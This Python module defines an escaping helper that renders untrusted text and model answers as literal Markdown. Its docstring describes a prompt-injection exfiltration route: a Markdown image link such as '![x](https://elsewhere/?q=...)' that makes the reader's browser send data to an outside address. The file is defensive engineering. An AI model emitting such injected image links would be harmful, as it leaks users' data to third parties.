"""Text written by others (documents, captions, labels, model answers, error messages) shown
in Markdown components as text: never as an image, a link or HTML.

Why: a document (or a model repeating one) that says ``![x](https://elsewhere/?q=...)``
would make the reader's browser fetch that address when its text is rendered as Markdown:
the way a prompt-injected document sends data off the machine. HTML escaping alone does
not help (Markdown syntax has no ``<``), so every character Markdown gives a meaning is
backslash-escaped, and bare addresses are broken so no renderer turns them into links.
"""

from __future__ import annotations

import html
import re

_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|~>])")
# GFM autolinks "https://..." and "www...." even without Markdown syntax; a zero-width space
# after the scheme's ":" (or inside "www.") stops that without changing what the text reads.
_AUTOLINK = re.compile(r"(?i)(:)(//)|\b(www)(\.)")
_ZWSP = "\u200b"


def md_text(text: str) -> str:
    """``text`` as literal Markdown: what the reader sees is the characters, nothing fetched
    or clickable. Citation markers still read [1]."""
    out = _AUTOLINK.sub(lambda m: (m.group(1) or m.group(3)) + _ZWSP + (m.group(2) or m.group(4)), str(text))
    out = html.escape(out, quote=False)  # raw HTML and entities show as typed
    return _MD_SPECIAL.sub(r"\\\1", out)
